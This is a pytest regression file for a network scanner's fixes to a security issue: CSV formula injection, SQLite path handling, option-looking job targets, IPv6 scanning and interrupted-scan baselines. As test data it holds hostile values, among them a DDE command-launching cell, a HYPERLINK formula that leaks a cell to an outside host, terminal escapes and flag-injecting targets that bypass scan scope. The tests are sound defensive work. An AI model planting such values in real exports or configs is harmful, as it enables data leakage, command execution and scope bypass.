"""Issue 11, items 4, 6, 7 and 9, and the interrupted-scan baseline: CSV cells, `--db` paths, job targets that
look like options, IPv6 targets. Each test reruns the attack as the issue describes it, with real files,
a real nmap and a real HTTP server (Python's http.server) on ::1."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from scanner.errors import PostureError
from tests.conftest import POSTURE, no_inventory, query, run_posture

# The owner from the attack, a sysName-like hostname, and a terminal escape (ESC [ 2 J clears a screen).
EVIL_OWNER = '=HYPERLINK("http://x.example/?"&A1,"click")'
REGISTER = (
    "IP Address,Hostname,Owner,Business Service,Site,Criticality\n"
    f'127.95.0.1,evil.example,"{EVIL_OWNER.replace(chr(34), chr(34) * 2)}",@SUM(1+1),+site,high\n'
    "127.95.0.2,calm.example,\x1b[2JFacilities,-cmd|' /C calc'!A0,\tTown Hall,low\n"
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_db(store_db: Path | str, tmp_path: Path) -> Path | str:
    """An inventory whose owners, services and sites are formulas, evaluated so every CSV output has rows."""
    db = store_db
    register = tmp_path / "register.csv"
    register.write_text(REGISTER, encoding="utf-8")
    assert run_posture("import", "assets", str(register), db=db).returncode == 0
    assert run_posture("evaluate", db=db).returncode == 0
    return db


CSV_COMMANDS = [
    ("assets", "--format", "csv"),
    ("export", "assets", "--format", "csv"),
    ("export", "findings", "--format", "csv"),
    ("findings", "--format", "csv"),
    ("plan", "remediation", "--format", "csv"),
]


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=[" ".join(c[:2]) for c in CSV_COMMANDS])
def test_csv_cells_never_start_a_formula(hostile_db: Path | str, command: tuple[str, ...]) -> None:
    """Item 4 (CWE-1236): 'An owner =HYPERLINK(...) from the register ... come out unchanged from export
    assets, export findings, plan remediation|decommission --format csv, assets --format csv, findings
    --format csv; CSV also carries raw ESC sequences to a terminal.'"""
    result = run_posture(*command, db=hostile_db)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert cells, "no CSV came out"
    starting = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert starting == [], starting
    if command[0] in ("assets", "export") and command[1] in ("assets", "--format"):
        assert "'" + EVIL_OWNER in cells  # neutralised, not lost: the text is all there behind the quote
        assert "Facilities" in " ".join(cells)


def test_one_csv_writer_neutralises_every_formula_start() -> None:
    """Item 4, the writer every CSV output goes through (the procurement and decommissioning CSVs too, whose
    rows this inventory cannot fill): each OWASP formula start is quoted, controls go, numbers stay."""
    from scanner.model import write_csv

    out = io.StringIO()
    write_csv(out, ["a", "b"], [["=1+1", "+1"], ["-1", "@x"], ["\tt", "\rr"], [-5, 2.5], ["\x1b[31mred", ["=a", "b"]]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["a", "b"], ["'=1+1", "'+1"], ["'-1", "'@x"], ["'\tt", "'\rr"], ["-5", "2.5"], ["[31mred", "'=a b"]]


def test_db_is_a_path_never_a_uri(tmp_path: Path) -> None:
    """Item 6: "--db './inv?mode=memory' imports, exits 0, saves nothing; --db './a#b.db' writes ./a;
    --db './100%41.db' writes 100A.db." Each name must be the file written, and hold what was imported."""
    # SQLite only: the subject is a --db path given as a file.
    register = tmp_path / "register.csv"
    register.write_text(REGISTER, encoding="utf-8")
    for name in ("inv?mode=memory", "a#b.db", "100%41.db"):
        result = run_posture("--db", f"./{name}", "import", "assets", str(register), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        written = tmp_path / name
        assert written.is_file(), sorted(p.name for p in tmp_path.iterdir())
        assert query(written, "SELECT count(*) FROM assets") == [(2,)]
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm"))) == sorted(
        ["register.csv", "inv?mode=memory", "a#b.db", "100%41.db"]
    )


def test_job_targets_that_look_like_options_are_refused(store_db: Path | str, tmp_path: Path) -> None:
    """Item 7: 'Job targets beginning with - become options in posture run: targets ["127.61.0.1",
    "--scope=127.61.0.0/16","--printer-ports","--timing=aggressive"] under a config scope of 127.60.0.0/16 -
    run plans -T4 ... 127.61.0.1 with no --exclude-ports: scope and printer exclusion bypassed.'
    Both `config check` and `run` refuse the job; nothing is scanned and no scan row is written."""
    config = tmp_path / "config.toml"
    config.write_text(
        '[scan]\nscope = ["127.60.0.0/16"]\n\n[jobs.evil]\n'
        'targets = ["127.61.0.1", "--scope=127.61.0.0/16", "--printer-ports", "--timing=aggressive"]\n',
        encoding="utf-8",
    )
    db = store_db
    check = run_posture("--config", str(config), "config", "check", db=db)
    assert check.returncode == 2 and "--scope=127.61.0.0/16" in check.stderr, check.stderr
    run = run_posture("--config", str(config), "run", "evil", db=db)
    assert run.returncode == 2, (run.stdout, run.stderr)
    assert "Traceback" not in run.stderr
    assert no_inventory(db) or query(db, "SELECT count(*) FROM scans") == [(0,)]


def test_job_targets_stay_targets_in_the_scan_request() -> None:
    """Item 7, second line of defence: whatever a job's targets say, they are targets of the scan's request
    (there is no argument list to smuggle an option into), and one that looks like an option is refused."""
    from scanner.jobs import Job
    from scanner.scan import nmap_request

    job = Job("x", ("127.61.0.1", "--printer-ports"))
    with pytest.raises(PostureError, match="--printer-ports"):
        nmap_request(list(job.targets), [], ["127.61.0.0/16"], job.scan_options())
    request = nmap_request(["127.61.0.1"], [], ["127.61.0.0/16"], job.scan_options())
    assert request.options["printer_ports"] is False and request.targets == ["127.61.0.1"]


@pytest.fixture
def http_on_ipv6_loopback() -> Iterator[int]:
    """A real HTTP server (Python's http.server) on [::1]."""
    with socket.socket(socket.AF_INET6) as probe:
        probe.bind(("::1", 0))
        port = int(probe.getsockname()[1])
    server = subprocess.Popen(
        [sys.executable, "-m", "http.server", "--bind", "::1", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with socket.socket(socket.AF_INET6) as s:
                if s.connect_ex(("::1", port)) == 0:
                    break
            time.sleep(0.05)
        yield port
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_ipv6_targets_are_scanned(http_on_ipv6_loopback: int, store_db: Path | str) -> None:
    """Item 9: 'posture scan fd00::60 --ports 8080 with a listener there: "complete: 0 hosts up", exit 3
    (nmap needs -6)'. Here ::1 (the only IPv6 address tests may reach) with an IPv4 target beside it: the
    IPv6 one goes in a chunk of its own, run with -6, and its web server is found."""
    db = store_db
    port = str(http_on_ipv6_loopback)
    result = run_posture("scan", "::1", "127.95.0.1", "--ports", port, "--no-dns", "--no-os-detection", db=db)
    assert result.returncode == 0, result.stderr
    services = query(
        db,
        "SELECT o.address, s.port, s.state FROM services s JOIN observations o ON o.id = s.observation_id "
        "WHERE o.address = '::1'",
    )
    assert services == [("::1", int(port), "open")]
    chunks = query(db, "SELECT targets FROM scan_chunks ORDER BY seq")
    assert len(chunks) == 2 and all(("::1" in t) != ("127.95.0.1" in t) for (t,) in chunks)


def test_ipv6_zone_is_kept(tmp_path: Path) -> None:
    """Item 9: 'fe80::1%lo loses its zone.' The planned nmap command keeps it, with -6."""
    result = run_posture("scan", "fe80::1%lo", "--ports", "80", "--dry-run", db=tmp_path / "inventory.db")
    assert result.returncode == 0, result.stderr
    command = result.stdout.splitlines()[-1]
    assert command.endswith(" fe80::1%lo") and " -6 " in command


def test_an_interrupted_scan_that_saved_nothing_is_no_baseline(store_db: Path | str) -> None:
    """Low: 'An interrupted scan that saved nothing becomes the baseline of the next diff (every asset
    "new").' A real scan, then one killed before its first chunk was saved, then a third: the diff pairs
    the first and third, and no asset is new."""
    db = store_db
    args = ("scan", "127.95.0.3", "--ports", "9", "--no-dns", "--no-os-detection", "--no-version-detection")
    assert run_posture(*args, db=db).returncode == 0
    # The second scan is stopped by SIGTERM while nmap is still waiting (a slow rate over many ports).
    slow = subprocess.Popen(
        [POSTURE, "--db", str(db), "scan", "127.95.0.4", "--ports", "1-2000", "--max-rate", "1", "--no-dns",
         "--no-os-detection", "--no-version-detection"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and query(db, "SELECT count(*) FROM scans") != [(2,)]:
        time.sleep(0.1)
    time.sleep(1)
    slow.terminate()
    assert slow.wait(timeout=60) == 130
    assert query(db, "SELECT status FROM scans WHERE id = 2") == [("interrupted",)]
    assert run_posture(*args, db=db).returncode == 0
    result = run_posture("diff", "--format", "json", db=db)
    assert result.returncode == 0, result.stderr
    diff = json.loads(result.stdout)
    assert (diff["older"], diff["newer"], diff["new"], diff["gone"]) == (1, 3, [], []), diff


def test_error_lines_carry_no_terminal_escapes(store_db: Path | str, tmp_path: Path) -> None:
    """Item 4's last clause, for error lines: a file name holding ESC [2J (clear screen) is quoted in the
    one-line error, and the escape never reaches the terminal."""
    result = run_posture("import", "nmap", str(tmp_path / "\x1b[2Jscan.xml"), db=store_db)
    assert result.returncode == 2
    assert "\x1b" not in result.stderr and "[2Jscan.xml" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
